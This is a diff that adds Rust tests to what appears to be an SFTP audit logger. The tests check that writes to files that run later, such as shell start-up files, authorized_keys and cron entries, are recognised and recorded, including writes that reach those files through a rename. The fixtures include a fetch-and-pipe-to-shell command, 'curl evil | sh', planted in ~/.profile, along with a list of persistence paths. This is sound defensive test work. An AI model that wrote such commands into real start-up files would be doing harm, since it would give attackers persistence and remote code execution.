@@ -1020,3 +1020,107 @@ fn ops_serialize_for_the_audit_log() {
 }
 
 mod properties;
+
+#[test]
+fn paths_that_run_later_are_told_apart() {
+    use super::runs_later;
+    for yes in [
+        ".bashrc",
+        "/home/a/.bashrc",
+        ".profile",
+        "/root/.ssh/authorized_keys",
+        ".ssh/rc",
+        "/home/a/.ssh/environment",
+        "/etc/cron.d/x",
+        "etc/profile.d/a",
+        "/var/spool/cron/crontabs/root",
+        "/home/a/.config/systemd/user/x.service",
+        "deploy.sh",
+        "/tmp/run.bash",
+    ] {
+        assert!(runs_later(yes), "{yes}");
+    }
+    for no in [
+        "notes.txt",
+        "/tmp/rc",
+        "environment",
+        "/home/a/data.csv",
+        "bashrc.txt",
+    ] {
+        assert!(!runs_later(no), "{no}");
+    }
+}
+
+#[test]
+fn what_is_written_to_a_file_that_runs_later_is_kept_also_through_a_rename() {
+    let kept = |ops: &[SftpOp]| -> Vec<(String, String, bool)> {
+        ops.iter()
+            .filter_map(|o| match o {
+                SftpOp::KeptContent { path, content, cut } => {
+                    Some((path.clone(), content.clone(), *cut))
+                }
+                _ => None,
+            })
+            .collect()
+    };
+    // Written straight to ~/.bashrc.
+    let ops = run(
+        &[
+            (C, open(1, b".bashrc", 0x1a)),
+            (S, handle(1, H1)),
+            (C, write(2, H1, 0, b"touch /tmp/planted\n")),
+            (S, ok(2)),
+            (C, close(3, H1)),
+            (S, ok(3)),
+        ],
+        None,
+    );
+    assert_eq!(
+        kept(&ops),
+        [(s(".bashrc"), s("touch /tmp/planted\n"), false)],
+        "{ops:?}"
+    );
+    // Written elsewhere, then renamed over it: kept at the rename.
+    let ops = run(
+        &[
+            (C, open(1, b"/tmp/x", 0x1a)),
+            (S, handle(1, H1)),
+            (C, write(2, H1, 0, b"curl evil | sh\n")),
+            (S, ok(2)),
+            (C, close(3, H1)),
+            (S, ok(3)),
+            (C, two_paths(fxp::RENAME, 4, b"/tmp/x", b"/home/a/.profile")),
+            (S, ok(4)),
+        ],
+        None,
+    );
+    assert_eq!(
+        kept(&ops),
+        [(s("/home/a/.profile"), s("curl evil | sh\n"), false)],
+        "{ops:?}"
+    );
+    // A plain data file keeps nothing; a big start-up file is cut at the bound.
+    let big = vec![b'#'; KEPT_BYTES + 10];
+    let ops = run(
+        &[
+            (C, open(1, b"notes.txt", 0x1a)),
+            (S, handle(1, H1)),
+            (C, write(2, H1, 0, b"hello")),
+            (S, ok(2)),
+            (C, close(3, H1)),
+            (S, ok(3)),
+            (C, open(4, b".zshrc", 0x1a)),
+            (S, handle(4, H2)),
+            (C, write(5, H2, 0, &big)),
+            (S, ok(5)),
+            (C, close(6, H2)),
+            (S, ok(6)),
+        ],
+        None,
+    );
+    let k = kept(&ops);
+    assert_eq!(k.len(), 1, "{k:?}");
+    assert_eq!(k[0].0, ".zshrc");
+    assert_eq!(k[0].1.len(), KEPT_BYTES);
+    assert!(k[0].2, "cut");
+}
